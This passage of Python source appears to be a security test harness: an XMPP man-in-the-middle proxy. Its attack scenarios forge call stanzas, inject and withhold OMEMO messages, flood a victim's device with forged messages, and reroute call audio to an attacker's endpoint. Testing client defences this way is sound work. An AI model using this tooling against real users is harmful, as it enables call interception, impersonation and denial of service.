        pc_b = sess["callee"][0]  # type: ignore[index]
        await pc_b.setRemoteDescription(RTCSessionDescription(content_to_sdp(j.find("content"), "answer", "0"), "answer"))
        return replace_media(st, pc_a.localDescription.sdp, relay_encrypted=True)

    async def close(self, sid: str) -> None:
        for side, (pc, stats) in self.sessions.pop(sid, {}).items():  # type: ignore[misc]
            emit({"media": "summary", "side": side, "sid": sid, "frames_received": stats["frames"]})
            await pc.close()

    async def close_all(self) -> None:
        for sid in list(self.sessions):
            await self.close(sid)


def _tone_track(freq: float):
    import fractions
    import math
    import struct

    from aiortc import MediaStreamTrack
    from av import AudioFrame

    rate, frame_len = 48000, 960

    class Tone(MediaStreamTrack):
        kind = "audio"

        def __init__(self) -> None:
            super().__init__()
            self.n = 0
            self.start: Optional[float] = None

        async def recv(self):
            if self.start is None:
                self.start = time.monotonic()
            delay = self.start + self.n * frame_len / rate - time.monotonic()
            if delay > 0:
                await asyncio.sleep(delay)
            base = self.n * frame_len
            pcm = struct.pack(
                "<%dh" % frame_len,
                *(int(12000 * math.sin(2 * math.pi * freq * (base + i) / rate)) for i in range(frame_len)),
            )
            frame = AudioFrame(format="s16", layout="mono", samples=frame_len)
            frame.planes[0].update(pcm)
            frame.sample_rate = rate
            frame.pts = base
            frame.time_base = fractions.Fraction(1, rate)
            self.n += 1
            return frame

    return Tone()


# ---------------------------------------------------------------------------------------------
# The byte-exact stream splitter.


class Parts:
    """Output of one feed: byte strings and (for scenarios that must wait, e.g. for a media
    endpoint) awaitables resolving to bytes, in order."""

    def __init__(self) -> None:
        self.items: List[object] = []

    def __iadd__(self, part: object) -> "Parts":
        if isinstance(part, (bytes, bytearray, memoryview)):
            if part:
                if self.items and isinstance(self.items[-1], bytearray):
                    self.items[-1] += part
                else:
                    self.items.append(bytearray(part))
        else:
            self.items.append(part)
        return self

    def __bytes__(self) -> bytes:
        if not all(isinstance(i, bytearray) for i in self.items):
            raise TypeError("a handler deferred its answer: use feed_parts()")
        return b"".join(self.items)  # type: ignore[arg-type]


def tag_end(buf: bytes, i: int) -> int:
    """Index just after the tag that starts at buf[i] ('<'): the first '>' outside quotes."""
    quote = 0
    n = len(buf)
    while i < n:
        c = buf[i]
        if quote:
            if c == quote:
                quote = 0
        elif c in (0x22, 0x27):
            quote = c
        elif c == 0x3E:
            return i + 1
        i += 1
    raise ValueError("tag not complete in buffer")


# Deeper nesting than any stanza has: the scanner gives up (and forwards blind) past it.
MAX_NESTING = 64

# handler(raw element bytes, element name) -> bytes to send instead, or None for the raw bytes
Handler = Callable[[bytes, str], Optional[bytes]]


class StreamRewriter:
    """Splits one direction of an XMPP stream into header, top-level elements and the bytes
    between them; forwards all bytes unchanged except top-level elements for which `handler`
    returns a replacement. Restarts its parser after a top-level element named in `restart_after`
    (SASL <success/>) or when restart() is called (the other direction saw it). A top-level
    element named in `blind_after` (STARTTLS <proceed/>) or a parse error switches to blind
    forwarding of everything that follows."""

    def __init__(
        self,
        handler: Handler,
        restart_after: Sequence[str] = (),
        blind_after: Sequence[str] = (),
        on_restart: Optional[Callable[[], None]] = None,
        on_blind: Optional[Callable[[str], None]] = None,
    ) -> None:
        self.handler = handler
        self.restart_after = set(restart_after)
        self.blind_after = set(blind_after)
        self.on_restart = on_restart
        self.on_blind = on_blind
        self.blind = False
        self._pending_restart = False
        self.restarts = 0
        self._new_parser()

    def _new_parser(self) -> None:
        self.buf = bytearray()
        self.base = 0  # stream byte index of buf[0]
        self.fwd = 0  # stream byte index up to which output was produced
        self.pos = 0  # stream byte index up to which the scanner has read
        self.depth = 0
        self.names: List[str] = []  # the open elements, the stream's own first
        self.el_start = 0
        self.events: List[tuple] = []

    def restart(self) -> None:
        """The next bytes start a new stream (called when the other direction saw <success/>)."""
        self._pending_restart = True

    # The scanner: it only finds the boundaries of the stream header, of top-level elements and
    # of the bytes between them (feed() produces the output). Not expat: with the reparse
    # deferral Debian's libexpat has since 2.5.0-1+deb12u2 (CVE-2023-52425), expat holds back a
    # complete element after a long token until more data arrives, which a stream never sends.
    def _scan(self) -> Optional[int]:
        """Scans what is buffered; returns the position to restart (after <success/>) or, negated,
        to go blind (after STARTTLS <proceed/>), or None. Raises ValueError on malformed XML."""
        buf, b = self.buf, self.base
        while self.pos - b < len(buf):
            i = self.pos - b
            if buf[i] != 0x3C:  # text
                j = buf.find(b"<", i)
                j = len(buf) if j < 0 else j
                if self.depth == 1:
                    if buf[i:j].strip():
                        raise ValueError("text at the top level of the stream")
                    self.events.append(("space", b + j))
                elif self.depth == 0 and buf[i:j].strip():
                    raise ValueError("text before the stream header")
                self.pos = b + j
                continue
            head = bytes(buf[i : i + 9])
            if len(head) < 9 and any(m.startswith(head) for m in (b"<!--", b"<![CDATA[")):
                return None  # cannot tell a comment or CDATA from a tag yet
            if head.startswith(b"<!--"):
                end = buf.find(b"-->", i + 4)
                if end < 0:
                    return None
                self.pos = b + end + 3
                continue
            if head.startswith(b"<![CDATA["):
                if self.depth < 2:
                    raise ValueError("CDATA outside an element")
                end = buf.find(b"]]>", i + 9)
                if end < 0:
                    return None
                self.pos = b + end + 3
                continue
            if head.startswith(b"<!"):
                raise ValueError("DTD in an XMPP stream")
            if head.startswith(b"<?"):
                end = buf.find(b"?>", i + 2)
                if end < 0:
                    return None
                self.pos = b + end + 2
                continue
            try:
                end = tag_end(buf, i)
            except ValueError:
                return None  # the tag is not complete yet
            closing = buf[i + 1] == 0x2F
            empty = not closing and buf[end - 2] == 0x2F
            name_start = i + (2 if closing else 1)
            name_end = name_start
            while name_end < end and buf[name_end] not in b" \t\r\n/>":
                name_end += 1
            name = bytes(buf[name_start:name_end]).decode("utf-8", "replace")
            if not name:
                raise ValueError("tag without a name")
            self.pos = b + end
            if closing:
                if not self.names or self.names[-1] != name:
                    raise ValueError(f"</{name}> does not close the open element")
                self.names.pop()
                self.depth -= 1
                if self.depth == 0:
                    self.events.append(("close", b + end))
                elif self.depth == 1:
                    stop = self._element(self.el_start, b + end, name)
                    if stop is not None:
                        return stop
                continue
            if self.depth == 1 and empty:
                stop = self._element(b + i, b + end, name)
                if stop is not None:
                    return stop
                continue
            if self.depth == 0:
                self.events.append(("open", b + end))
            if empty:
                continue
            if self.depth == 1:
                self.el_start = b + i
            if len(self.names) >= MAX_NESTING:
                raise ValueError("elements nested too deeply")
            self.names.append(name)
            self.depth += 1
        return None

    def _element(self, s: int, e: int, name: str) -> Optional[int]:
        self.events.append(("element", s, e, name))
        if name in self.restart_after:
            return e
        if name in self.blind_after:
            return -e
        return None

    def feed(self, data: bytes) -> bytes:
        """Consumes bytes from one side; returns the bytes to send to the other."""
        return bytes(self.feed_parts(data))

    def feed_parts(self, data: bytes) -> "Parts":
        """Like feed(), but a handler may have returned an awaitable (resolving to bytes): the
        result is the sequence of byte strings and awaitables to send in this order."""
        out = Parts()
        if self.blind:
            out += data
            return out
        if self._pending_restart:
            self._pending_restart = False
            rest = bytes(self.buf[self.fwd - self.base :])
            self._new_parser()
            self.restarts += 1
            data = rest + data
        pending: Optional[bytes] = data
        while pending:
            chunk, pending = pending, None
            self.buf += chunk
            try:
                stop = self._scan()
            except ValueError as err:
                self._process(out)
                out += self.buf[self.fwd - self.base :]
                self._go_blind(f"parse error: {err}")
                return out
            self._process(out)
            if stop is not None:
                rest = bytes(self.buf[abs(stop) - self.base :])
                if stop < 0:  # STARTTLS: what follows is TLS
                    out += rest
                    self._go_blind("STARTTLS")
                    return out
                self._new_parser()
                self.restarts += 1
                if self.on_restart:
                    self.on_restart()
                pending = rest
        del self.buf[: self.fwd - self.base]
        self.base = self.fwd
        return out

    def _go_blind(self, why: str) -> None:
        self.blind = True
        self.buf = bytearray()
        if self.on_blind:
            self.on_blind(why)

    def _process(self, out: "Parts") -> None:
        b = self.base
        for ev in self.events:
            kind = ev[0]
            if kind == "element":
                _, s, e, name = ev
                if s > self.fwd:
                    out += self.buf[self.fwd - b : s - b]
                raw = bytes(self.buf[s - b : e - b])
                rep = self.handler(raw, name)
                out += raw if rep is None else rep
                self.fwd = e
            else:  # open, space, close: forward up to there
                end = ev[1]
                if end > self.fwd:
                    out += self.buf[self.fwd - b : end - b]
                    self.fwd = end
        self.events = []


# ---------------------------------------------------------------------------------------------
# The proxy.


def emit(obj: dict) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


@dataclass
class Call:
    caller: str
    callee: str


RECIPIENT_ROLE = {
    "proceed": "caller",
    "ringing": "caller",
    "reject": "caller",
    "session-accept": "caller",
    "propose": "callee",
    "retract": "callee",
    "session-initiate": "callee",
}


class Connection:
    def __init__(self, proxy: "Proxy", cid: int, writer: asyncio.StreamWriter) -> None:
        self.proxy = proxy
        self.cid = cid
        self.jid: Optional[str] = None
        self.client_writer = writer
        self.to_server = StreamRewriter(
            lambda raw, name: proxy.on_element(self, "to-server", raw, name),
            on_blind=lambda why: proxy.log_event(self, "to-server", "blind", why),
        )
        self.to_client = StreamRewriter(
            lambda raw, name: proxy.on_element(self, "to-client", raw, name),
            restart_after=("success",),
            blind_after=("proceed",),
            on_restart=self.to_server.restart,
            on_blind=self._blind,
        )

    def _blind(self, why: str) -> None:
        self.proxy.log_event(self, "to-client", "blind", why)
        self.to_server.blind = True  # after STARTTLS nothing is readable

    @property
    def label(self) -> str:
        return self.jid or f"conn#{self.cid}"


class Proxy:
    def __init__(self, upstream: Tuple[str, int], opts: Options, log_path: Optional[str]) -> None:
        self.upstream = upstream
        self.opts = opts
        self.scenario = Scenario(opts)
        self.calls: Dict[str, Call] = {}
        self.conns: List[Connection] = []
        self.forged: List[Tuple[str, str]] = []  # (forged from, stanza id)
        self.log = open(log_path, "a", encoding="utf-8") if log_path else None
        self.next_id = 0
        self.tasks: set = set()
        self.media: Optional[MediaMitm] = MediaMitm(opts.tone) if opts.scenario == "media-mitm" else None
        # flood: what it learns of the call (devices, the caller's full JID), and its task.
        self.devices: Dict[str, int] = {}
        self.caller_jid = ""
        self.callee_jid = ""
        self.flood_task: Optional[asyncio.Task] = None

    def log_event(self, conn: Connection, direction: str, action: str, xml: str) -> None:
        if self.log:
            self.log.write(
                json.dumps(
                    {"t": round(time.time(), 3), "direction": direction, "client": conn.label, "action": action, "xml": xml}
                )
                + "\n"
            )
            self.log.flush()

    def _log_raw(self, conn: Connection, direction: str, action: str, raw: bytes, name: str) -> None:
        if not self.log:
            return
        text = raw.decode("utf-8", "replace")
        if name == "auth":
            text = text[: text.find(">") + 1] + "(redacted)</auth>" if ">" in text else "(redacted)"
        self.log_event(conn, direction, action, text)

    # -- roles --
    def learn(self, conn: Connection, direction: str, st: El) -> None:
        kind, sid = kind_of(st), sid_of(st)
        if sid is None or kind not in ("propose", "session-initiate"):
            return
        m = st
        if kind == "propose":
            inner = carbon_inner(st)
            m = inner if inner is not None else st
        frm = m.get("from") or (conn.jid if direction == "to-server" else None)
        to = m.get("to") or (conn.jid if direction == "to-client" else None)
        if frm and to and (kind == "propose" or sid not in self.calls):
            self.calls[sid] = Call(bare(frm), bare(to))

    def role_of(self, conn: Connection, st: El) -> Optional[str]:
        sid, me = sid_of(st), bare(conn.jid)
        call = self.calls.get(sid or "")
        if call and call.caller != call.callee:
            if me == call.caller:
                return "caller"
            if me == call.callee:
                return "callee"
        if carbon_inner(st) is None:
            return RECIPIENT_ROLE.get(kind_of(st) or "")
        return None

    # -- per element --
    def on_element(self, conn: Connection, direction: str, raw: bytes, name: str) -> Optional[bytes]:
        if name not in ("message", "iq", "presence"):
            self._log_raw(conn, direction, "forwarded", raw, name)
            return None
        try:
            st = parse_element(raw)
        except xml.parsers.expat.ExpatError:
            self._log_raw(conn, direction, "forwarded", raw, name)
            return None
        if direction == "to-client" and conn.jid is None and name == "iq" and st.get("type") == "result":
            b = st.find("bind", NS_BIND)
            j = b.find("jid") if b is not None else None
            if j is not None and j.text.strip():
                conn.jid = j.text.strip()
        self.learn(conn, direction, st)

        if direction == "to-server":
            if name == "iq" and st.get("type") in ("result", "error") and (st.get("to"), st.get("id")) in self.forged:
                self._log_raw(conn, direction, "dropped", raw, name)
                self._emit_rewrite(conn, direction, st, "swallowed the answer to a forged stanza")
                return b""
            self._log_raw(conn, direction, "forwarded", raw, name)
            return None

        if self.media is not None:
            return self._media_element(conn, direction, st, raw, name)
        if (
            self.opts.scenario == "inject-message"
            and bare(conn.jid) == self.opts.withhold_to
            and self.scenario.injector.withhold(st)
        ):
            self._emit_rewrite(conn, direction, st, "withheld an OMEMO chat message")
            self._log_raw(conn, direction, "dropped", raw, name)
            return b""
        if self.opts.scenario == "flood":
            self._flood_learn(conn, st)
        out = None
        if self.opts.scenario != "passthrough" and self.role_of(conn, st) == self.opts.victim:
            out = self.scenario.apply(st)
        if out is None:
            self._log_raw(conn, direction, "forwarded", raw, name)
            return None
        for f in out.forged:
            self.forged.append((f.get("from") or "", f.get("id") or ""))
        self._emit_rewrite(conn, direction, st, out.detail)
        if not out.deliver:
            self._log_raw(conn, direction, "dropped", raw, name)
            if self.opts.ack_dropped and name == "iq":
                self._ack(conn, st)
            return b""
        data = b""
        for el in out.deliver:
            b = el.serialize()
            self._log_raw(conn, direction, "rewritten" if el is not st else "forwarded", b, name)
            data += raw if el is st else b
        return data

    def _media_element(self, conn: Connection, direction: str, st: El, raw: bytes, name: str):
        """media-mitm: session-initiate to the callee and session-accept to the caller are
        answered by the attacker's endpoint (deferred until aiortc has its description);
        transport-info to either side is dropped; session-terminate closes the endpoint."""
        assert self.media is not None
        kind, role = kind_of(st), self.role_of(conn, st)
        if kind == "session-terminate" and st.get("type") == "set":
            asyncio.ensure_future(self.media.close(sid_of(st) or ""))
        step = None
        if kind == "session-initiate" and role == "callee":
            step = self.media.on_initiate
        elif kind == "session-accept" and role == "caller":
            step = self.media.on_accept
        elif kind == "transport-info":
            self._emit_rewrite(conn, direction, st, "transport-info dropped (the attacker's transport is complete)")
            self._log_raw(conn, direction, "dropped", raw, name)
            return b""
        if step is None:
            self._log_raw(conn, direction, "forwarded", raw, name)
            return None

        async def deferred() -> bytes:
            try:
                new = await step(st)
            except Exception as e:  # the attack failed: deliver the original, say so
                emit({"error": f"media-mitm: {type(e).__name__}: {e}", "stanza": kind, "sid": sid_of(st)})
                self._log_raw(conn, direction, "forwarded", raw, name)
                return raw
            out = new.serialize()
            self._emit_rewrite(conn, direction, st, "transport and description point at the attacker's endpoint")
            self._log_raw(conn, direction, "rewritten", out, name)
            return out

        return deferred()

    def _emit_rewrite(self, conn: Connection, direction: str, st: El, detail: str) -> None:
        emit(
            {
                "rewrote": self.opts.scenario,
                "direction": direction,
                "client": conn.label,
                "stanza": kind_of(st) or st.tag,
                "sid": sid_of(st),
                "from": st.get("from"),
                "detail": detail,
            }
        )

    def _flood_learn(self, conn: Connection, st: El) -> None:
        """Learns the caller's device (header sid of the initiate's encrypted fingerprint), the
        callee's (the <device/> of the proceed) and starts the flood when the caller gets the
        session-accept."""
        kind = kind_of(st)
        if kind == "session-initiate":
            for fp in encrypted_fingerprints(st):
                enc = fp.find("encrypted", NS_OMEMO)
                h = enc.find("header") if enc is not None else None
                if h is not None and (h.get("sid") or "").isdigit():
                    self.devices["caller"] = int(h.get("sid") or "0")
                    self.caller_jid = st.get("from") or ""
        elif kind == "proceed":
            for m in messages(st):
                p = jmi(m)
                for d in p.findall("device") if p is not None else []:
                    if (d.get("id") or "").isdigit():
                        self.devices["callee"] = int(d.get("id") or "0")
                        self.callee_jid = m.get("from") or ""
        elif kind == "session-accept" and self.flood_task is None and self.role_of(conn, st) == "caller":
            victim = self.opts.victim
            target_jid = self.callee_jid if victim == "callee" else (st.get("to") or conn.jid or "")
            frm = self.caller_jid if victim == "callee" else (st.get("from") or "")
            sender_dev = self.devices.get("caller" if victim == "callee" else "callee")
            rid = self.devices.get(victim)
            target = next((c for c in self.conns if c.jid == target_jid), None)
            if target is None or sender_dev is None or rid is None:
                emit({"flood": "cannot", "devices": self.devices, "target": target_jid})
                return
            self.flood_task = asyncio.ensure_future(self._flood(target, frm, sender_dev, rid))
            self.tasks.add(self.flood_task)

    async def _flood(self, target: Connection, frm: str, sid: int, rid: int) -> None:
        o = self.opts
        n = 0
        start = time.monotonic()
        try:
            while time.monotonic() - start < o.flood_seconds:
                due = start + n / o.flood_rate
                delay = due - time.monotonic()
                if delay > 0:
                    await asyncio.sleep(delay)
                raw = flood_message(frm, target.jid or "", sid, rid, o.flood_keys, o.flood_counter, n)
                target.client_writer.write(raw)
                self._log_raw(target, "to-client", "injected", raw, "message")
                n += 1
        finally:
            emit({"rewrote": "flood", "direction": "to-client", "client": target.label, "stanza": "message",
                  "sid": None, "from": frm, "detail": f"{n} forged messages", "flood": "done", "sent": n,
                  "seconds": round(time.monotonic() - start, 2)})

    def _ack(self, victim: Connection, st: El) -> None:
        """Answers a dropped IQ to its sender in the victim's name."""
        sender = st.get("from")
        for c in self.conns:
            if c.jid == sender:
                ack = El("iq", {"type": "result", "id": st.get("id") or "", "from": victim.jid or "", "to": sender or ""})
                raw = ack.serialize()
                self._log_raw(c, "to-client", "injected", raw, "iq")
                c.client_writer.write(raw)
                return

    # -- sockets --
    async def handle(self, creader: asyncio.StreamReader, cwriter: asyncio.StreamWriter) -> None:
        self.next_id += 1
        conn = Connection(self, self.next_id, cwriter)
        self.conns.append(conn)
        task = asyncio.current_task()
        self.tasks.add(task)
        try:
            await self._serve_conn(conn, creader, cwriter)
        except asyncio.CancelledError:
            pass  # shutting down
        finally:
            self.tasks.discard(task)
            if conn in self.conns:
                self.conns.remove(conn)

    async def _serve_conn(self, conn: Connection, creader: asyncio.StreamReader, cwriter: asyncio.StreamWriter) -> None:
        try:
            sreader, swriter = await asyncio.open_connection(*self.upstream)
        except OSError as e:
            self.log_event(conn, "to-server", "error", f"cannot connect upstream: {e}")
            cwriter.close()
            return
        try:
            await asyncio.gather(
                self._pump(creader, swriter, conn.to_server),
                self._pump(sreader, cwriter, conn.to_client),
            )
        finally:
            for w in (swriter, cwriter):
                w.close()

    async def _pump(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, rw: StreamRewriter) -> None:
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    break
                for part in rw.feed_parts(data).items:
                    if not isinstance(part, bytearray):
                        part = await part  # type: ignore[misc]
                    if part:
                        writer.write(part)
                await writer.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            # one side ended: end the other too (after what was already forwarded)
            try:
                if rw.buf and not rw.blind:
                    writer.write(bytes(rw.buf[rw.fwd - rw.base :]))
                writer.close()
            except (ConnectionError, OSError, RuntimeError):
                pass


async def serve(args: argparse.Namespace, opts: Options) -> None:
    host, _, port = args.upstream.rpartition(":")
    proxy = Proxy((host or "127.0.0.1", int(port)), opts, args.log)
    server = await asyncio.start_server(proxy.handle, "127.0.0.1", 0)
    emit({"listening": server.sockets[0].getsockname()[1]})
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    async with server:
        await stop.wait()
        server.close()
        for t in list(proxy.tasks):
            t.cancel()
        await asyncio.gather(*proxy.tasks, return_exceptions=True)
        if proxy.media is not None:
            await proxy.media.close_all()
    if proxy.log:
        proxy.log.close()


def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace, Options]:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--upstream", required=True, help="the real server, HOST:PORT")
    ap.add_argument("--scenario", required=True, choices=SCENARIOS)
    ap.add_argument("--victim", choices=("caller", "callee"), default="caller")
    ap.add_argument("--log", help="append every element seen (JSON lines) to this file")
    ap.add_argument("--attacker-fingerprint", default=DEFAULT_ATTACKER_FINGERPRINT, help="SHA-256 hex, colons optional")
    ap.add_argument("--attacker-addr", default="127.0.0.1:9", help="IP:PORT for replace-candidates")
    ap.add_argument("--device-id", help="change-device: the new id (default: old id + 1)")
    ap.add_argument("--stanza", choices=tuple(FORGEABLE), default="session-accept", help="what the forge-* scenarios copy")
    ap.add_argument("--forge-from", help="forge-*: the forged sender (default: BARE/mitm-forged or mallory@DOMAIN/mitm)")
    ap.add_argument("--original", choices=("deliver", "drop"), default="deliver", help="forge-*: also deliver the genuine stanza (after the forged one) or drop it")
    ap.add_argument("--tone", type=float, default=660.0, help="media-mitm: the attacker's tone to both sides (Hz)")
    ap.add_argument("--ack-dropped", action="store_true", help="drop-session-accept: answer the sender with an IQ result in the victim's name")
    ap.add_argument("--withhold-to", help="inject-message: the bare JID whose first OMEMO chat message is withheld")
    ap.add_argument("--flood-rate", type=float, default=50.0, help="flood: forged messages per second")
    ap.add_argument("--flood-seconds", type=float, default=3.0, help="flood: for how long")
    ap.add_argument("--flood-keys", type=int, default=2, help="flood: keys for the victim's device per message")
    ap.add_argument("--flood-counter", type=int, default=311, help="flood: chain steps each key makes the victim walk")
    a = ap.parse_args(argv)
    ip, _, port = a.attacker_addr.rpartition(":")
    opts = Options(
        scenario=a.scenario,
        victim=a.victim,
        attacker_fingerprint=normalize_fingerprint(a.attacker_fingerprint),
        attacker_ip=ip.strip("[]"),
        attacker_port=int(port),
        device_id=a.device_id,
        stanza=a.stanza,
        forge_from=a.forge_from,
        original=a.original,
        ack_dropped=a.ack_dropped,
        tone=a.tone,
        withhold_to=a.withhold_to,
        flood_rate=a.flood_rate,
        flood_seconds=a.flood_seconds,
        flood_keys=a.flood_keys,
        flood_counter=a.flood_counter,
    )
    if opts.scenario == "inject-message" and not opts.withhold_to:
        ap_error = "inject-message needs --withhold-to JID"
        raise SystemExit(ap_error)
    return a, opts


def main(argv: Optional[Sequence[str]] = None) -> int:
    args, opts = parse_args(argv)
    asyncio.run(serve(args, opts))
    return 0


if __name__ == "__main__":
    sys.exit(main())
